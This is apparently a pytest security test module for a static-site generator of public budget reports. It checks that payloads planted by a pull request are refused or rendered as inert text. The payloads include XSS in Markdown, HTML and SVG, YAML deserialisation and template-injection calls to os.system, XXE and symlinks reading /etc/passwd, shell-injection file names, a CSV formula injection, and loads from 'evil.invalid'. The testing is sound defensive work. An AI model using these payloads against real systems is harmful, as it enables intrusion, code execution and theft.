"""What a pull request could plant in texts, data, pictures, files, names and links is refused, or only words.

`test_injection.py` has the payloads of the template language, `test_automation.py` those in settings and programs.
"""

from __future__ import annotations

import re
import shutil
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from browsing import chromium
from conftest import BASE
from hosted import hosted
from sites import gongkai

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Mapping

    from click.testing import Result
    from playwright.sync_api import Browser, Dialog

PAGE, BUDGET, REPORT = "docs/2021/overview.md", "data/2021/budget.yml", "data/2021/report.yml"
DEPARTMENT, LEDGER = "data/department.yml", "data/2021/ledger.yml"
TEXT, FIGURES, ABOUT = ((BASE / name).read_text("utf-8") for name in (PAGE, BUDGET, REPORT))
RUN = "document.title=origin"
EVIL = "https://evil.invalid/"
CANARY = "canary.txt"
SVG = '<svg xmlns="http://www.w3.org/2000/svg"'
XHTML = 'xmlns:m="http://www.w3.org/1999/xhtml"'

IN_A_TEXT = {
    "a script": (f"<script>{RUN}</script>", "L110"),
    "a script of another host": (f'文字<script src="{EVIL}x.js"></script>', "L109"),
    "a handler": (f'<img src="x.png" alt="" onerror="{RUN}">', "L110"),
    "a handler with slashes": (f"<img/src='x.png'/onerror={RUN}>", "L110"),
    "a handler that opens itself": (f'<details open ontoggle="{RUN}">文字</details>', "L110"),
    "an SVG that loads": (f'<svg onload="{RUN}"></svg>', "L110"),
    "a script in an SVG": (f"<svg><script>{RUN}</script></svg>", "L110"),
    "a frame": (f'<iframe src="{EVIL}"></iframe>', "L109"),
    "a frame with its own text": (f'<iframe srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"></iframe>', "L112"),
    "a style": (f"<style>@import url({EVIL}x.css);</style>", "L112"),
    "a style of another host": (f'<link rel="stylesheet" href="{EVIL}x.css">', "L109"),
    "a style in an attribute": (f'<p style="background:url({EVIL}x.png)">文字</p>', "L109"),
    "a redirection": (f'<meta http-equiv="refresh" content="0;url={EVIL}">', "L112"),
    "a base": (f'<base href="{EVIL}">', "L112"),
    "a form": (f'<form action="{EVIL}"><input name="password"></form>', "L112"),
    "a button": (f'<button formaction="javascript:{RUN}">文字</button>', "L112"),
    "an object": (f'<object data="{EVIL}x.swf"></object>', "L109"),
    "an embedded file": ('<embed src="x.swf">', "L112"),
    "a film of another host": (f'<video src="{EVIL}x.mp4" autoplay></video>', "L109"),
    "a formula that is a link": (f'<math><mtext xlink:href="javascript:{RUN}">文字</mtext></math>', "L112"),
    "a link that runs": (f"[文字](javascript:{RUN})", "L110"),
    "a link that runs, in capitals": (f"[文字](JaVaScRiPt:{RUN})", "L110"),
    "a link that runs, in entities": (f"[文字](&#106;avascript:{RUN})", "L110"),
    "a link that runs, with a tab": (f'<a href="java&#9;script:{RUN}">文字</a>', "L110"),
    "a link that runs, behind a control character": (f'<a href="&#1;javascript:{RUN}">文字</a>', "L110"),
    "a link that runs, by reference": (f"[文字][x]\n\n[x]: javascript:{RUN}", "L110"),
    "a link to a page in itself": ("<a href='data:text/html;base64,PHNjcmlwdD4='>文字</a>", "L110"),
    "a picture of another host": (f"![文字]({EVIL}x.png)", "L109"),
    "a picture of another host for fine screens": (f'<img src="x.png" alt="" srcset="{EVIL}x.png 2x">', "L109"),
    "a picture with a script": ("![文字](data:image/svg+xml;base64,PHN2Zz4=)", "L110"),
    "a handler in a list": (f'文字。\n{{: onclick="{RUN}" }}', "L112"),
    "a handler on a link": (f'[文字](overview.md){{ onmouseover="{RUN}" }}', "L112"),
    "a handler on a heading": (f'## 二、职责 {{: .x OnClick="{RUN}" }}', "L112"),
    "a handler behind braces": (f'文字。\n{{: title="{{" onclick="{RUN}" }}', "L112"),
    "an address in a list": (f'[文字](overview.md){{ href="javascript:{RUN}" }}', "L112"),
    "a style in a list": (f'文字。\n{{: style="background:url({EVIL})" }}', "L112"),
    "a message to another host": (f'[文字](overview.md){{ ping="{EVIL}" }}', "L112"),
    "a handler on code": (f'```{{ .x onclick="{RUN}" }}\n文字\n```', "L112"),
    "settings of the theme": (f'<a id="__config">{{"base": "{EVIL}"}}</a>', "L112"),
    "settings of the theme, by a list": ("## 二、职责 {: #__config }", "L112"),
    "words in white": ('<font color="white">文字</font>', "L113"),
    "words in no colour": ('<table bgcolor="#000"><tr><td>文字</td></tr></table>', "L113"),
    "words that a style spells in code": ('<p style="c\\6flor:#fff">文字</p>', "L113"),
    "words that a style makes small": ('<p style="font-size:1px">文字</p>', "L113"),
    "words that a style pushes away": ('<p style="margin-left:-9999px">文字</p>', "L113"),
    "words that a style strikes out": ('<p style="text-decoration: line-through">文字</p>', "L113"),
    "words that the theme hides": ("文字。\n{: .md-toggle }", "L113"),
    "words that the theme hides, in a tag": ('<p class="note md-toggle">文字</p>', "L113"),
    "words that the theme hides, at a list": ('文字。\n{: title="x".md-toggle }', "L113"),
    "words that the theme hides, by name": ("**文字**{ class=md-toggle }", "L113"),
    "words that the theme hides, in a box": ("!!! note md-toggle\n    文字", "L113"),
    "words that wait to be asked for": ("<p popover>文字</p>", "L113"),
    "words that wait, by a list": ("文字。\n{: popover }", "L113"),
    "words in a closed window": ("<dialog>文字</dialog>", "L113"),
    "words for other browsers": ("<ruby>文<rp>文字</rp></ruby>", "L113"),
    "words from right to left": ('<bdo dir="rtl">文字</bdo>', "L113"),
    "a figure that nobody stated": ('<data class="fact" value="1">文字</data>', "L113"),
    "a part of the theme's": ('<p data-md-component="announce">文字</p>', "L113"),
    "a name of the theme's": ('<p id="gk-card">文字</p>', "L113"),
    "a drawing that runs": (f'<svg><a><animate attributeName="href" values="x;javascript:{RUN}"/></a></svg>', "L113"),
    "a tag with a tag in its quotes": (f'<img title="<" src="x.png" alt="" onerror="{RUN}">', "L112"),
    "a tag in the quotes of none": (f"文<a title=\"<img src='x.png' alt='' onerror='{RUN}'>\">字</a>", "L110"),
    "a tag that nobody knows": (f"<b\\ onclick={RUN}>文字</b>", "L112"),
    "a tag with a colon": (f"<a:b/onclick={RUN}>文字</a:b>", "L112"),
    "an address that is a tag": ("<javascript:document.title=origin>", "L112"),
    "code behind a backslash": (f"\\`<img src='x.png' alt='' onerror={RUN}>\\`", "L110"),
    "code in HTML": (f"<div>`<img src='x.png' alt='' onerror={RUN}>`</div>", "L110"),
    "code in HTML of several lines": (f"<div>\n`<img src='x.png' alt='' onerror={RUN}>`\n</div>", "L110"),
    "code behind half a code": (f"文 ` 字\n`<img src='x.png' alt='' onerror={RUN}>` ` 字", "L110"),
    "code in cells": (f"| 甲 | 乙 |\n| --- | --- |\n| `文|<img src='x.png' alt='' onerror={RUN}>|字` |", "L110"),
    "fences that do not begin their lines": (f"文\n\n   ```\n<div onclick={RUN}>\n</div>\n   ```", "L110"),
    "fences of two kinds": (f"```\n<div onclick={RUN}>\n~~~\n</div>\n````", "L110"),
    "fences with a name of words": (f"~~~ a b c\n<div onclick={RUN}></div>\n~~~", "L110"),
    "fences, one of which some readers skip": (
        f'```py hl_lines="1"\n文\n```\n\n<div onclick={RUN}></div>\n\n```\n',
        "L110",
    ),
    "a link that runs, behind a backslash": (f"\\`[文字](javascript:{RUN})\\`", "L110"),
    "a comment that ends early": (f"<!--><script>{RUN}</script>-->", "L110"),
    "a section that is no text": (f"<![CDATA[<script>{RUN}</script>]]>", "L110"),
    "a command of the server": ('<!--#exec cmd="touch canary.txt" -->', "V108"),
    "a file of a machine": ("[文字](file:///etc/passwd)", "L110"),
    "a character that parts a word": (f"<scr\x00ipt>{RUN}</script>", "S115"),
}

IN_A_FILE: dict[str, tuple[Mapping[str, str], str]] = {
    "another template": ({PAGE: "---\ntemplate: /etc/passwd\n---\n" + TEXT}, "M106"),
    "a title that is HTML": ({PAGE: f'---\ntitle: "<img src=x onerror={RUN}>"\n---\n' + TEXT}, "M106"),
    "a description that leaves its quotes": (
        {PAGE: f"---\ndescription: '0;url={EVIL}\" http-equiv=\"refresh'\n---\n" + TEXT},
        "M106",
    ),
    "keywords that are HTML": ({PAGE: f"---\nkeywords: ['<script>{RUN}</script>']\n---\n" + TEXT}, "M106"),
    "aliases upon aliases": ({BUDGET: FIGURES + "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n"}, "S106"),
    "a Python call": ({BUDGET: FIGURES + "a: !!python/object/new:os.system ['touch canary.txt']\n"}, "S107"),
    "a Python name": ({BUDGET: FIGURES + "a: !!python/name:os.system\n"}, "S107"),
    "a tag of one's own": (
        {BUDGET: f"%TAG ! tag:yaml.org,2002:python/object/apply:\n---\na: !os.system ['touch {CANARY}']\n"},
        "S107",
    ),
    "a merge key": ({BUDGET: FIGURES + "a: {<<: {value: 3件}}\n"}, "S114"),
    "Python in a formula": (
        {BUDGET: FIGURES + "a: {formula: \"__import__('os').system('touch canary.txt')\"}\n"},
        "B104",
    ),
    "an endless power": ({BUDGET: FIGURES + "a: {formula: 9**9**9**9**9}\n"}, "B104"),
    "Python among the kinds": ({"data/kinds/own.yml": "a: !!python/name:os.system\n"}, "S107"),
    "a name that is HTML": ({BUDGET: FIGURES + '"<script>": 3件\n'}, "D105"),
    "a chapter elsewhere": ({REPORT: ABOUT.replace("overview.md", "../../../../etc/passwd")}, "D103"),
    "a chapter's title": (
        {REPORT: ABOUT.replace("title: 一、基本情况", f"title: '<img src=x onerror={RUN}>'")},
        "D103",
    ),
    "a repository that runs": ({DEPARTMENT: f'name: 某馆\nrepository: {{url: "javascript:{RUN}"}}\n'}, "D103"),
    "a licence that runs": ({DEPARTMENT: f'name: 某馆\nlicence: {{name: x, url: "javascript:{RUN}"}}\n'}, "D103"),
    "a site that runs": ({DEPARTMENT: f'name: 某馆\nsite: {{url: "javascript:{RUN}"}}\n'}, "D103"),
    "a mark that runs": ({DEPARTMENT: f'name: 某馆\nsite: {{mark: "javascript:{RUN}"}}\n'}, "D103"),
    "a macro that is Python's": ({DEPARTMENT: "name: 某馆\nmacros: [os.system]\n"}, "E108"),
    "a profile elsewhere": ({DEPARTMENT: "name: 某馆\npdf: {profile: ../../../../etc}\n"}, "P102"),
    "a web page": ({"docs/2021/x.html": f"<script>{RUN}</script>"}, "L111"),
    "a web page as XML": (
        {"docs/2021/x.xml": f'<x xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></x>'},
        "L111",
    ),
    "a page of the server": ({"docs/2021/x.shtml": '<!--#exec cmd="touch canary.txt" -->'}, "L111"),
    "a program of the server": ({"docs/2021/x.php": "<?php system('touch canary.txt');"}, "L111"),
    "a script beside the page": ({"docs/2021/x.js": RUN}, "L111"),
    "a worker": ({"docs/2021/sw.mjs": "self.onfetch = 1"}, "L111"),
    "a style beside the page": ({"docs/2021/x.css": f"@import url({EVIL});"}, "L111"),
    "a document with macros": ({"docs/2021/x.docm": "PK"}, "L111"),
    "a program": ({"docs/2021/年报\u202efdp.exe": "MZ"}, "L111"),
    "SVG: a script": ({"docs/2021/x.svg": f"{SVG}><script>{RUN}</script></svg>"}, "L111"),
    "SVG: a script under another name": (
        {"docs/2021/x.svg": f'<a:svg xmlns:a="http://www.w3.org/2000/svg"><a:script>{RUN}</a:script></a:svg>'},
        "L111",
    ),
    "SVG: a handler": ({"docs/2021/x.svg": f'{SVG} onload="{RUN}"/>'}, "L111"),
    "SVG: a redirection": (
        {"docs/2021/x.svg": f'{SVG}><m:meta {XHTML} http-equiv="refresh" content="0;url={EVIL}"/></svg>'},
        "L111",
    ),
    "SVG: a form": (
        {"docs/2021/x.svg": f'{SVG}><m:form {XHTML} action="{EVIL}"><m:input name="password"/></m:form></svg>'},
        "L111",
    ),
    "SVG: a web page, as XML": ({"docs/2021/x.svg": f'<m:html {XHTML}><m:base href="{EVIL}"/></m:html>'}, "L111"),
    "SVG: what nobody knows": ({"docs/2021/x.svg": f"{SVG}><portal/></svg>"}, "L111"),
    "SVG: a link of another host": ({"docs/2021/x.svg": f'{SVG} xml:base="{EVIL}"><a href="#x"/></svg>'}, "L111"),
    "SVG: a style that is spelt in code": (
        {"docs/2021/x.svg": f"{SVG}><style>@\\69mport '{EVIL}';</style></svg>"},
        "L111",
    ),
    "SVG: a style in pieces": (
        {"docs/2021/x.svg": f"{SVG}><style>@im<a/>port '{EVIL}';</style></svg>"},
        "L111",
    ),
    "SVG: a picture of another host in a style": (
        {"docs/2021/x.svg": f"{SVG}><style>a {{ fill: image-set('//evil.invalid' 1x) }}</style></svg>"},
        "L111",
    ),
    "SVG: a page in it": ({"docs/2021/x.svg": f"{SVG}><foreignObject><p/></foreignObject></svg>"}, "L111"),
    "SVG: a link that runs": ({"docs/2021/x.svg": f'{SVG}><a href="javascript:{RUN}"/></svg>'}, "L111"),
    "SVG: a link that will run": (
        {"docs/2021/x.svg": f'{SVG}><a><set attributeName="href" to="javascript:{RUN}"/></a></svg>'},
        "L111",
    ),
    "SVG: a picture of another host": (
        {"docs/2021/x.svg": f'{SVG} xmlns:x="http://www.w3.org/1999/xlink"><image x:href="{EVIL}x.png"/></svg>'},
        "L111",
    ),
    "SVG: a style of another host": ({"docs/2021/x.svg": f"{SVG}><style>@import url({EVIL});</style></svg>"}, "L111"),
    "SVG: a style sheet": ({"docs/2021/x.svg": f'<?xml-stylesheet href="{EVIL}" type="text/xsl"?>{SVG}/>'}, "L111"),
    "SVG: a file of the machine": (
        {"docs/2021/x.svg": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{SVG}><text>&x;</text></svg>'},
        "L111",
    ),
    "SVG: entities upon entities": (
        {"docs/2021/x.svg": f'<!DOCTYPE svg [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]>{SVG}><text>&b;</text></svg>'},
        "L111",
    ),
    "SVG: HTML under its name": ({"docs/2021/x.svg": f"<html><script>{RUN}</script>"}, "L111"),
    "a name that is HTML, of a file": ({f"docs/2021/<img src=x onerror={RUN}>.pdf": "%PDF"}, "L107"),
    "a name that leaves its quotes": ({'docs/2021/a" onclick="b.pdf': "%PDF"}, "L107"),
    "a name of two lines": ({"docs/2021/a\n::error::b.pdf": "%PDF"}, "L107"),
    "a page whose name is HTML": ({"docs/2021/<img src=x onerror=x>.md": TEXT}, "E104"),
    "a data file whose name is a command": ({"data/2021/$(touch canary.txt).yml": "a: 3件\n"}, "D105"),
    "a year that is a command": ({"docs/2021;touch canary.txt/x.md": TEXT}, "E113"),
    "a PDF's style of another host": (
        {DEPARTMENT: "name: 某馆\npdf: {profile: data/looks}\n", "data/looks/profile.yml": "title: x\n",
         "data/looks/style.css": f"@import url({EVIL}x.css);"},
        "P10",
    ),
    "a PDF's style with a file of the machine": (
        {DEPARTMENT: "name: 某馆\npdf: {profile: data/looks}\n", "data/looks/profile.yml": "title: x\n",
         "data/looks/style.css": "body { background: url(file:///etc/passwd) }"},
        "P10",
    ),
    "a PDF's cover that calls": (
        {DEPARTMENT: "name: 某馆\npdf: {profile: data/looks}\n", "data/looks/profile.yml": "title: x\n",
         "data/looks/style.css": "", "data/looks/cover.html.j2": "{{ cycler.__init__.__globals__.os.system('x') }}"},
        "P10",
    ),
}  # fmt: skip

LINKS = {
    "a data file": ("data/2021/x.yml", "/etc/passwd", "S116"),
    "the department": (DEPARTMENT, "/etc/passwd", "S116"),
    "a page": ("docs/2021/x.md", "/etc/passwd", "S116"),
    "a file": ("docs/2021/x.pdf", "/proc/self/environ", "S116"),
    "a file by its way up": ("docs/2021/x.pdf", "../../../secret.txt", "S116"),
    "a folder": ("docs/2021/x", "/etc", "S116"),
    "a loop": ("docs/2021/x.png", "x.png", "S116"),
}

WORDS = f"<script>{RUN}</script><img src=x onerror={RUN}>"
INERT: dict[str, str] = {
    PAGE: TEXT
    + "\n## 二、&lt;img src=x onerror=RUN&gt;\n"
    + "\n```\n<script>document.title=origin</script>\n```\n\n`<script>document.title=origin</script>`\n\n"
    + "<?php system('touch canary.txt'); ?>\n\n{!/etc/passwd!}\n\n"
    + "&lt;script&gt;document.title=origin&lt;/script&gt;\n\n[文字](../../../../etc/passwd)\n\n"
    + "[附件](x.png) [附件](x.pdf) [附件](%24%28touch%20canary.txt%29.pdf) [附件](-rf.pdf) [图](x.svg)\n\n"
    + '{{ fact("budget.words") }}\n\n{{ table("lines") }}\n',
    BUDGET: "label: '</title>WORDS'\n"
    + FIGURES.partition("\n")[2].replace("label: 年初预算数", "label: 'WORDS\" onmouseover=\"RUN'")
    .replace("value: 1000.00万元", "value: 1000.00万元, note: 'WORDS', source: 'javascript:RUN'")
    + "words: {label: '=cmd|'' /C calc''!A0', text: 'WORDS'}\n",
    "data/2021/lines.yml": "label: 'WORDS'\ncolumns: {a: 'WORDS'}\nrows: {b: 'WORDS'}\ncells: {b: [3件]}\n",
    REPORT: ABOUT.replace("title: 示例单位2021年部门整体支出绩效自评报告", "title: '</title>WORDS'"),
    LEDGER: "notes: ['WORDS']\n",
    DEPARTMENT: "name: '</title>WORDS'\nnotice: 'WORDS'\ncontact: {email: 'WORDS', phone: 'WORDS', address: 'WORDS'}\n"
    "site: {name: 'WORDS', sponsor: 'WORDS'}\n",
    "docs/2021/x.png": "<script>document.title=origin</script>",
    "docs/2021/x.pdf": "<script>document.title=origin</script>",
    "docs/2021/x.svg": f'{SVG} viewBox="0 0 1 1"><style>rect {{ fill: red }}</style><rect width="1" height="1"/></svg>',
    "docs/2021/$(touch canary.txt).pdf": "%PDF",
    "docs/2021/-rf.pdf": "%PDF",
    "docs/2021/.htaccess": "AddType text/html .png\n",
    "docs/CNAME": "evil.invalid",
    "docs/assets/javascripts/bundle.js": "document.title=origin",
    "data/2021/x.html": "<script>document.title=origin</script>",
}  # fmt: skip


def refused(root: Path, run: Callable[..., Result], rule: str) -> None:
    """Hold that `check` reports a rule, `build` builds nothing, and nothing has run."""
    checked = run(root, "check")
    assert checked.exit_code == 1
    assert re.search(rf": {rule}\d* ", checked.stdout), checked.output
    built = run(root, "build", "--no-pdf", "--allow-draft")
    assert built.exit_code == 1, built.output
    assert not (root / "site").exists()
    assert not any(folder.joinpath(CANARY).exists() for folder in (root, root.parent, Path.cwd()))


@pytest.mark.parametrize("name", IN_A_TEXT)
def test_a_payload_in_a_text_is_refused(
    name: str, site: Callable[..., Path], run: Callable[..., Result], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Markdown and HTML that would run or load in readers' browsers."""
    payload, rule = IN_A_TEXT[name]
    root = site({PAGE: f"{TEXT}\n{payload}\n", "docs/2021/x.png": "x"})
    monkeypatch.chdir(root)
    refused(root, run, rule)


@pytest.mark.parametrize("name", IN_A_FILE)
def test_a_payload_in_a_file_or_its_name_is_refused(
    name: str, site: Callable[..., Path], run: Callable[..., Result], monkeypatch: pytest.MonkeyPatch
) -> None:
    """YAML, front matter, pictures, styles, web pages, names."""
    files, rule = IN_A_FILE[name]
    linked = "".join(f"\n[附件]({Path(path).name})\n" for path in files if re.fullmatch(r"docs/2021/x\.\w+", path))
    root = site({PAGE: TEXT + linked, **files})
    monkeypatch.chdir(root)
    refused(root, run, rule)


@pytest.mark.parametrize("name", LINKS)
def test_a_link_that_leads_out_is_refused(name: str, site: Callable[..., Path], run: Callable[..., Result]) -> None:
    """What it leads to is neither read nor published."""
    path, target, rule = LINKS[name]
    root = site()
    (root.parent / "secret.txt").write_text("root:x:0:0", "utf-8")
    (root / path).unlink(missing_ok=True)
    (root / path).symlink_to(target)
    refused(root, run, rule)
    assert "root:x" not in run(root, "check").output


# ---- what is not refused: words


def armed(text: str) -> str:
    """Put the payload where it goes."""
    return text.replace("WORDS", WORDS).replace("RUN", RUN)


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Build one site with all payloads that may stand where they are."""
    root = tmp_path_factory.mktemp("planted") / "site"
    shutil.copytree(BASE, root)
    for name, text in INERT.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(armed(text), "utf-8")
    done = gongkai(root, "build", "--no-pdf", "--output", str(root.parent / "public"))
    assert done.returncode == 0, done.stdout + done.stderr
    return root.parent / "public"


class Reader(HTMLParser):
    """Collects what a page would run or load, as browsers take it apart."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.scripts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note what is not our theme's."""
        given = {name: value or "" for name, value in attrs}
        if (
            tag in {"iframe", "object", "embed", "base", "form"}
            and "data-md-component" not in str(given)
            and tag != "form"
        ):
            self.found.append(tag)
        self.found += [f"{tag} {name}" for name in given if name.startswith("on") or name == "srcdoc"]
        for name in ("href", "src", "action", "data", "srcset", "xlink:href"):
            value = re.sub(r"[\x00-\x20]", "", given.get(name, "")).lower()
            if value.startswith(("javascript:", "vbscript:", "data:text")):
                self.found.append(f"{tag} {name}={value}")
            loaded = name != "href" or (tag == "link" and given.get("rel") not in {"canonical", "alternate", "license"})
            if loaded and value.startswith(("http:", "https:", "//")):
                self.found.append(f"{tag} {name}={value}")
        if tag == "img" and given.get("src") == "x":
            self.found.append("the payload's picture")
        if tag == "script":
            self.scripts.append(given.get("src") or given.get("type", ""))


def pages(folder: Path) -> list[Path]:
    """Return every page of a site."""
    return sorted(folder.rglob("*.html"))


def test_what_is_not_refused_is_words_in_every_page(built: Path) -> None:
    """No element, no handler and no address of a payload's; its words are there to be read."""
    words = 0
    for page in pages(built):
        text = page.read_text("utf-8")
        reader = Reader()
        reader.feed(text)
        assert reader.found == [], page
        assert all(
            (script.endswith(".js") and "://" not in script) or script.endswith("json") for script in reader.scripts
        ), (page, reader.scripts)
        words += text.count("&lt;script&gt;")
    assert words > 20


def test_a_browser_runs_and_loads_nothing_of_it(built: Path, browser: Browser) -> None:
    """The real thing: every page is opened, and no request leaves for another host."""
    dialogs: list[str] = []

    def dismissed(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    asked: list[str] = []
    with hosted(built) as (address, _):
        for page in pages(built):
            opened = browser.new_page()  # a page that leads on would come between the next and its address
            opened.set_default_timeout(0)
            opened.on("request", lambda request: asked.append(request.url))
            opened.on("dialog", dismissed)
            opened.goto(f"{address}/{page.relative_to(built).as_posix()}", wait_until="load")
            assert not opened.title().startswith("http"), page
            opened.close()
    assert [url for url in asked if not url.startswith((address, "data:", "blob:"))] == []
    assert dialogs == []
    assert len(asked) > len(pages(built))


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """Headless Chromium."""
    with chromium() as found:
        yield found


def test_what_no_page_needs_is_not_published(built: Path) -> None:
    """Hidden files, what lies beside the years, and web pages among the data."""
    names = {path.relative_to(built).as_posix() for path in built.rglob("*") if path.is_file()}
    assert not [name for name in names if name.endswith((".htaccess", "CNAME", "data/2021/x.html", "2021/x.html"))]
    assert "assets/javascripts/bundle.js" not in names
    assert {"2021/x.svg", "2021/x.png"} <= names
    assert not (built.parent / CANARY).exists()


def test_open_data_is_no_formula_of_a_spreadsheet(built: Path) -> None:
    """A label that begins like a formula is text in the tables that people open."""
    for path in built.rglob("*.csv"):
        text = path.read_text("utf-8-sig")
        assert not re.search(r"(?:^|,)\"?[=+@]cmd", text, re.MULTILINE), path
